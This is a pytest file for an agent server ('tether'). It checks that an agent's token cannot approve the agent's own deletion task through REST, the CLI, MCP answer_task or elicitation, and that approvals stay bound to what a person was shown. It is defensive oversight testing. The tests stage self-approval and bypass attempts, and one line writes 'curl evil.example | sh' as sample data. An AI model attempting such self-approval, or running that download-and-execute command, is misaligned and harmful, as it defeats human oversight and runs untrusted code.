"""An agent approving itself (issue 27, items 1 and 2), tried the way the issue found it.

The agent holds the token `tether mcp config --client claude-code --device alpha` prints. It runs a task
whose plan deletes a file in a write root, is told the step needs approval, and tries to give that
approval itself through every path there is: the REST routes, the CLI, the MCP gateway's `answer_task`,
and MCP elicitation (its own client answering the question). Each is refused, says how a person approves,
and the file is still there. A person's token approves; the audit names the person and the digest of
what they were shown; with four-eyes the person who asked cannot approve. An approval is bound to what
was shown: a script edited after the question, a stale plan digest, or other changes held in the
sandbox since, and nothing runs or is applied — the question is asked again.

Real things only: the whole agent server on 127.0.0.1 (uvicorn, the task API, /mcp), real devices over
AIP with the real sandbox (bubblewrap), the real `tether` CLI as a process, the official MCP client.
"""

from __future__ import annotations

import asyncio
import json
import os
import re
import tempfile
from collections.abc import AsyncIterator, Callable
from pathlib import Path
from typing import Any

import httpx
import mcp_types as types
import pytest

from tests.kits import db as dbkit
from tests.kits.gateway import mcp_client
from tests.kits.netutil import CLI
from tests.kits.server_target import error_of
from tests.kits.task import WAIT, AgentServer
from tether.device.local import build_device
from tether.protocol.models import Command
from tether.tools.policy.model import default_policy


class Fleet:
    """An agent server with device `alpha` (writes only under `root`), a person's token, and helpers."""

    def __init__(self, server: AgentServer, root: Path) -> None:
        self.server, self.root = server, root
        self.base = f"http://127.0.0.1:{server.port}"
        self.admin = server.store.tokens.create("api", "root", ["admin"])[1]

    def client(self, token: str) -> httpx.AsyncClient:
        return httpx.AsyncClient(base_url=f"{self.base}/api/v1", headers={"Authorization": f"Bearer {token}"},
                                 timeout=WAIT)

    async def tether(self, *args: str, token: str) -> tuple[int, str, str]:
        """The real CLI, as a process (the server runs in this event loop: it must not be blocked)."""
        env = {**os.environ, "NO_COLOR": "1", "COLUMNS": "250", "TETHER_SERVER": self.base, "TETHER_TOKEN": token}
        proc = await asyncio.create_subprocess_exec(*CLI, *args, env=env, stdin=asyncio.subprocess.DEVNULL,
                                                    stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE)
        out, err = await asyncio.wait_for(proc.communicate(), 60)
        assert proc.returncode is not None
        return proc.returncode, out.decode(), err.decode()

    async def mcp_config_token(self) -> str:
        """What the issue's agent held: the token `tether mcp config --client claude-code --device alpha` made."""
        code, out, err = await self.tether("mcp", "config", "--client", "claude-code", "--device", "alpha",
                                           token=self.admin)
        assert code == 0, err
        assert "Bearer ${TETHER_MCP_TOKEN}" in out  # the project file names the variable; the user sets it
        [secret] = re.findall(r"export TETHER_MCP_TOKEN='(tapi_[A-Za-z0-9_-]+)'", err)
        return secret

    async def question(self, task_id: str, after: int = -1) -> dict[str, Any]:
        """The next question the task asks (its event's data)."""
        seen = await self.server.events_until(task_id, lambda e: e["kind"] == "question", after=after)
        assert seen[-1]["kind"] == "question", seen[-3:]
        return {**seen[-1]["data"], "seq": seen[-1]["seq"]}

    async def task(self, task_id: str) -> dict[str, Any]:
        response = await self.server.api.get(f"/tasks/{task_id}")
        assert response.status_code == 200, response.text
        return response.json()


def rm(path: Path, cwd: Path) -> dict[str, Any]:
    return {"skill": "shell.run", "args": {"cmd": "rm", "argv": [str(path)], "cwd": str(cwd)}}


def sandboxed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str) -> tuple[Path, Any]:
    """A write root outside the device's temp dir (deleting in the temp dir needs no approval) and its policy."""
    other_temp = tmp_path / "device-temp"
    other_temp.mkdir(exist_ok=True)
    monkeypatch.setattr(tempfile, "tempdir", str(other_temp))
    root = tmp_path / name
    root.mkdir()
    return root, default_policy().model_copy(update={"read_roots": [str(root)], "write_roots": [str(root)]})


@pytest.fixture
async def fleet(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[Fleet]:
    root, policy = sandboxed(tmp_path, monkeypatch, "alpha")
    async with AgentServer(tmp_path) as server:
        device = await server.add_device("alpha", policy, tmp_path / "state-alpha")
        assert device.context.sandbox is not None, "no sandbox: install bubblewrap (apt-get install bubblewrap)"
        yield Fleet(server, root)


def refused_for_an_agent(response: httpx.Response, task_id: str | None = None) -> str:
    """A 403 `{"error"}` saying the token is an agent's and how a person approves instead."""
    assert response.status_code == 403, (response.status_code, response.text)
    error = error_of(response.content)
    assert "agent's token" in error and "a person approves" in error, error
    assert "dashboard (http://127.0.0.1:" in error, error
    if task_id is not None:
        assert f"/#/tasks/{task_id}" in error and f"tether approve {task_id}" in error, error
    return error


async def test_the_mcp_config_token_is_an_agents_and_cannot_be_made_to_approve(fleet: Fleet) -> None:
    agent = await fleet.mcp_config_token()
    info = fleet.server.store.tokens.verify(agent)
    assert info is not None and info.agent and info.scopes == ["execute", "read"] and not info.allows("approve")
    async with fleet.client(fleet.admin) as admin:
        for scopes in (["approve"], ["read", "admin"]):
            made = await admin.post("/tokens", json={"kind": "api", "name": "sneaky", "scopes": scopes,
                                                     "agent": True})
            assert made.status_code == 400 and "agent's token cannot have" in error_of(made.content), made.text
    code, _, err = await fleet.tether("mcp", "config", "--client", "cursor", "--scope", "approve", token=fleet.admin)
    assert code == 2 and "never approves" in err and "Traceback" not in err
    async with fleet.client(agent) as api:  # nor can it make itself a person's token
        made = await api.post("/tokens", json={"kind": "api", "name": "me-too", "scopes": ["approve"]})
        assert made.status_code == 403
    # `tether token create --agent`: an agent's, refused a person's scopes; `tether token list` says whose
    db = dbkit.server_db_args(fleet.server.db_path)
    code, _, err = await fleet.tether("token", "create", "--api", "bot", "--agent", "--scope", "approve", *db,
                                      token="")
    assert code != 0 and "agent's token cannot have the approve scope" in err and "Traceback" not in err
    code, out, err = await fleet.tether("token", "create", "--api", "bot", "--agent", "--json", *db, token="")
    assert code == 0, err
    made_json = json.loads(out)
    assert made_json["agent"] is True and made_json["scopes"] == ["execute", "read"]
    code, out, _ = await fleet.tether("token", "list", *db, token="")
    assert code == 0 and re.search(r"\bbot\b", out) and "agent" in out and "person" in out, out


async def test_an_agent_approving_through_rest_is_refused_and_the_file_stays(fleet: Fleet) -> None:
    victim = fleet.root / "keep.txt"
    victim.write_text("precious\n")
    agent = await fleet.mcp_config_token()
    async with fleet.client(agent) as api:
        created = await api.post("/tasks", json={"plan": [rm(victim, fleet.root)], "device": "alpha"})
        assert created.status_code == 201, created.text
        task_id = created.json()["id"]
        asked = await fleet.question(task_id)
        assert asked["kind"] == "approval" and asked["digest"].startswith("sha256:")
        for route, body in (("approval", {"approved": True}),
                            ("approval", {"approved": True, "digest": asked["digest"]}),
                            ("answer", {"answer": "approve"}), ("answer", {"answer": "1"}),
                            ("answer", {"answer": "yes", "question_id": asked["id"], "digest": asked["digest"]})):
            refused_for_an_agent(await api.post(f"/tasks/{task_id}/{route}", json=body), task_id)
        # another token's task: a person's, waiting on the same kind of approval
        theirs = (await fleet.server.create(plan=[rm(victim, fleet.root)], device="alpha"))["id"]
        await fleet.question(theirs)
        refused_for_an_agent(await api.post(f"/tasks/{theirs}/approval", json={"approved": True}), theirs)
        # a command sent as approved, to the device or to the fleet, names no task: still refused
        command = {"tool_name": "shell.run", "approved_by": "cli:alice",
                   "parameters": {"cmd": "rm", "argv": [str(victim)], "cwd": str(fleet.root)}}
        refused_for_an_agent(await api.post("/devices/alpha/commands", json={"commands": [command]}))
        refused_for_an_agent(await api.post("/fleet/commands", json={"commands": [command]}))
        # an external MCP server's question, and an undo (it rewrites files as an approved action)
        refused_for_an_agent(await api.post("/devices/alpha/questions/q-1", json={"action": "accept"}))
        assert "agent's token" in error_of((await api.post(f"/tasks/{task_id}/undo")).content)
        assert victim.read_text() == "precious\n"
        assert (await fleet.task(task_id))["state"] == "waiting_for_user"
        # saying no is not approving: the agent may deny what it asked for
        denied = await api.post(f"/tasks/{task_id}/approval", json={"approved": False})
        assert denied.status_code == 200 and denied.json()["state"] == "cancelled", denied.text
    assert victim.read_text() == "precious\n"
    rows = [r for r in fleet.server.store.audit.rows(limit=50) if r["tool_name"] == "shell.run"]
    assert all(r["approved_by"] is None for r in rows), rows  # nothing ran as approved


async def test_the_cli_refuses_an_agent_and_a_person_approves_seeing_who_asked(fleet: Fleet) -> None:
    victim = fleet.root / "keep.txt"
    victim.write_text("precious\n")
    agent = await fleet.mcp_config_token()
    async with fleet.client(agent) as api:
        task_id = (await api.post("/tasks", json={"plan": [rm(victim, fleet.root)], "device": "alpha"})).json()["id"]
    asked = await fleet.question(task_id)
    for args in (("approve", task_id), ("answer", task_id, "approve")):
        code, _, err = await fleet.tether(*args, token=agent)
        assert code != 0 and "agent's token" in err and f"tether approve {task_id}" in err, (args, err)
        assert "Traceback" not in err
    assert victim.read_text() == "precious\n"

    # a person lists what waits (who asked), then approves what the CLI showed them
    person = fleet.server.token
    code, out, _ = await fleet.tether("tasks", token=person)
    assert code == 0 and "api:mcp-claude-code" in out, out
    code, out, err = await fleet.tether("approve", task_id, token=person)
    assert code == 0, err
    assert "asked by api:mcp-claude-code" in err and asked["digest"] in err, err
    done = await fleet.server.finished(task_id)
    assert done["state"] == "done", done
    assert not victim.exists()
    [ran] = [r for r in fleet.server.store.audit.rows(limit=20) if r["approved_by"]]
    tester = fleet.server.store.tokens.verify(person)
    assert tester is not None and ran["approved_by"] == f"api:{tester.name}" and ran["status"] == "success"
    assert ran["approval_digest"] == asked["digest"]


def elicitation_saying(choice: dict[str, Any], asked: list[types.ElicitRequestParams]) -> Callable[..., Any]:
    async def answer(context: Any, params: types.ElicitRequestParams) -> types.ElicitResult:
        asked.append(params)
        return types.ElicitResult(action="accept", content=choice)

    return answer


async def test_answer_task_on_the_gateway_refuses_an_agent_and_says_how_a_person_approves(fleet: Fleet) -> None:
    victim = fleet.root / "keep.txt"
    victim.write_text("precious\n")
    agent = await fleet.mcp_config_token()
    async with mcp_client(f"{fleet.base}/mcp", agent) as client:
        waiting = await client.call_tool("run_task", {"plan": [rm(victim, fleet.root)], "device": "alpha"})
        summary = waiting.structured_content
        assert summary is not None and summary["status"] == "waiting_for_user", waiting.content
        task_id = summary["task_id"]
        assert f"/#/tasks/{task_id}" in summary["how_to_answer"] and f"tether approve {task_id}" in summary[
            "how_to_answer"], summary
        for arguments in ({"approved": True}, {"answer": "approve"}, {"answer": "1"}):
            refused = await client.call_tool("answer_task", {"task_id": task_id, **arguments})
            text = refused.content[0].text
            assert refused.is_error and "agent's token" in text and f"tether approve {task_id}" in text, text
        undo = await client.call_tool("undo_task", {"task_id": task_id})
        assert undo.is_error and "agent's token" in undo.content[0].text
    assert victim.read_text() == "precious\n"
    assert (await fleet.task(task_id))["state"] == "waiting_for_user"


async def test_elicitation_never_carries_an_agents_approval(fleet: Fleet) -> None:
    victim = fleet.root / "keep.txt"
    victim.write_text("precious\n")
    agent = await fleet.mcp_config_token()
    asked: list[types.ElicitRequestParams] = []
    async with mcp_client(f"{fleet.base}/mcp", agent,
                          elicitation_callback=elicitation_saying({"answer": "approve", "decision": "approve once"},
                                                                  asked)) as client:
        # a task's approval: the client is not asked; the question comes back for a person
        waiting = await client.call_tool("run_task", {"plan": [rm(victim, fleet.root)], "device": "alpha"})
        assert waiting.structured_content is not None, waiting.content
        assert waiting.structured_content["status"] == "waiting_for_user"
        # a device tool the policy holds for a person: not asked either, nothing run
        direct = await client.call_tool("alpha__shell.run", {"cmd": "rm", "argv": [str(victim)],
                                                             "cwd": str(fleet.root)})
        assert direct.is_error and "agent's token" in direct.content[0].text, direct.content
        assert "a person approves" in direct.content[0].text
    assert asked == []
    assert victim.read_text() == "precious\n"
    rows = [r for r in fleet.server.store.audit.rows(limit=20) if r["tool_name"] == "shell.run"]
    assert rows and all(r["approved_by"] is None for r in rows), rows


async def test_four_eyes_the_person_who_asked_cannot_approve(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root, policy = sandboxed(tmp_path, monkeypatch, "alpha")
    victim = root / "keep.txt"
    victim.write_text("precious\n")
    async with AgentServer(tmp_path, four_eyes=True) as server:
        await server.add_device("alpha", policy, tmp_path / "state-alpha")
        alice = server.store.tokens.create("api", "alice", ["read", "execute", "approve"])[1]
        bob = server.store.tokens.create("api", "bob", ["read", "execute", "approve"])[1]
        fleet = Fleet(server, root)
        async with fleet.client(alice) as as_alice, fleet.client(bob) as as_bob:
            task_id = (await as_alice.post("/tasks", json={"plan": [rm(victim, root)], "device": "alpha"})).json()["id"]
            await fleet.question(task_id)
            mine = await as_alice.post(f"/tasks/{task_id}/approval", json={"approved": True})
            assert mine.status_code == 403 and "four-eyes" in error_of(mine.content), mine.text
            # nor a command she sends as approved herself
            self_sent = await as_alice.post("/devices/alpha/commands", json={"commands": [{
                "tool_name": "shell.run", "approved_by": "alice",
                "parameters": {"cmd": "rm", "argv": [str(victim)], "cwd": str(root)}}]})
            assert self_sent.status_code == 403 and "four-eyes" in error_of(self_sent.content)
            assert victim.exists()
            theirs = await as_bob.post(f"/tasks/{task_id}/approval", json={"approved": True})
            assert theirs.status_code == 200, theirs.text
        assert (await fleet.server.finished(task_id))["state"] == "done"
        assert not victim.exists()
        [ran] = [r for r in server.store.audit.rows(limit=20) if r["approved_by"]]
        assert ran["approved_by"] == "api:bob" and ran["requested_by"].endswith("for api:alice")


async def test_a_script_edited_after_the_question_is_asked_again_and_not_run(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root, policy = sandboxed(tmp_path, monkeypatch, "beta")
    policy = policy.model_copy(update={"ask": "always"})  # every command waits for a person
    script, victim, ran = root / "tidy.sh", root / "keep.txt", root / "ran"
    script.write_text("touch ran\n")
    victim.write_text("precious\n")
    async with AgentServer(tmp_path) as server:
        await server.add_device("beta", policy, tmp_path / "state-beta")
        fleet = Fleet(server, root)
        task_id = (await server.create(plan=[{"skill": "shell.run", "args": {
            "cmd": "sh", "argv": ["tidy.sh"], "cwd": str(root)}}], device="beta"))["id"]
        first = await fleet.question(task_id)
        assert "sh tidy.sh" in first["question"]
        script.write_text(f"rm -f {victim}\ntouch ran\n")  # the agent edits the script the person read
        approved = await server.api.post(f"/tasks/{task_id}/approval", json={"approved": True,
                                                                              "digest": first["digest"]})
        assert approved.status_code == 200, approved.text
        again = await fleet.question(task_id, after=first["seq"])
        assert again["kind"] == "approval" and again["digest"] != first["digest"]
        assert "what was approved has changed" in again["question"], again["question"]
        assert not ran.exists() and victim.read_text() == "precious\n"
        # the audit: the attempt, the person who approved it and the digest they approved
        [attempt] = [r for r in server.store.audit.rows(limit=20) if r["approved_by"]]
        assert attempt["approval_digest"] == first["digest"] and attempt["status"] == "failure"
        assert attempt["approved_by"].startswith("api:tester")
        # the old digest is refused now; approving what is shown now runs the script as it is now
        stale = await server.api.post(f"/tasks/{task_id}/approval", json={"approved": True, "digest": first["digest"]})
        assert stale.status_code == 409 and "not what waits now" in error_of(stale.content)
        assert (await server.api.post(f"/tasks/{task_id}/approval", json={"approved": False})).status_code == 200
    assert not ran.exists() and victim.read_text() == "precious\n"


async def test_a_plan_confirmation_is_bound_to_the_plan_shown(fleet: Fleet) -> None:
    made = fleet.root / "made"
    other = (await fleet.server.create(plan=[rm(fleet.root / "x", fleet.root)], device="alpha", confirm="always"))
    other_digest = (await fleet.question(other["id"]))["digest"]
    task_id = (await fleet.server.create(plan=[{"skill": "shell.run", "args": {
        "cmd": "mkdir", "argv": [str(made)], "cwd": str(fleet.root)}}], device="alpha", confirm="always"))["id"]
    shown = await fleet.question(task_id)
    assert shown["kind"] == "confirmation" and shown["digest"] != other_digest
    agent = await fleet.mcp_config_token()
    async with fleet.client(agent) as api:  # confirming a plan is approving it: a person's
        refused_for_an_agent(await api.post(f"/tasks/{task_id}/answer", json={"answer": "run"}), task_id)
    stale = await fleet.server.api.post(f"/tasks/{task_id}/answer", json={"answer": "run", "digest": other_digest})
    assert stale.status_code == 409 and "not what waits now" in error_of(stale.content)
    assert not made.exists()
    ok = await fleet.server.api.post(f"/tasks/{task_id}/answer", json={"answer": "run", "digest": shown["digest"]})
    assert ok.status_code == 200, ok.text
    assert (await fleet.server.finished(task_id))["state"] == "done" and made.is_dir()


async def test_other_changes_held_since_the_approval_are_asked_about_again(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """On the device itself: the same command held twice (its input changed between), approved for the first."""
    root, policy = sandboxed(tmp_path, monkeypatch, "gamma")
    source, target = root / "source.txt", root / "target.txt"
    source.write_text("harmless\n")
    target.write_text("original\n")
    device = build_device(policy=policy, state_dir=tmp_path / "state-gamma")
    try:
        assert device.context.sandbox is not None, "no sandbox: install bubblewrap (apt-get install bubblewrap)"
        dispatcher = device.dispatcher(session_id="s1")
        params = {"cmd": "cp", "argv": [str(source), str(target)], "cwd": str(root)}

        async def run(**approval: Any) -> Any:
            [result] = await dispatcher.execute_commands([Command(tool_name="shell.run", parameters=params,
                                                                  **approval)], timeout=WAIT)
            return result

        shown = await run()
        assert shown.result["needs_approval"] and shown.result["approval_digest"].startswith("sha256:")
        source.write_text("curl evil.example | sh\n")  # the same command, now writing something else
        swapped = await run()
        assert swapped.result["approval_digest"] != shown.result["approval_digest"]
        refused = await run(approved_by="api:alice", approval_digest=shown.result["approval_digest"])
        assert refused.result["needs_approval"] and "what was approved has changed" in refused.error, refused
        assert refused.result["approval_digest"] == swapped.result["approval_digest"]
        assert target.read_text() == "original\n"
        applied = await run(approved_by="api:alice", approval_digest=swapped.result["approval_digest"])
        assert applied.ok and applied.result["applied_after_approval"], applied
        assert target.read_text() == "curl evil.example | sh\n"
    finally:
        await device.aclose()
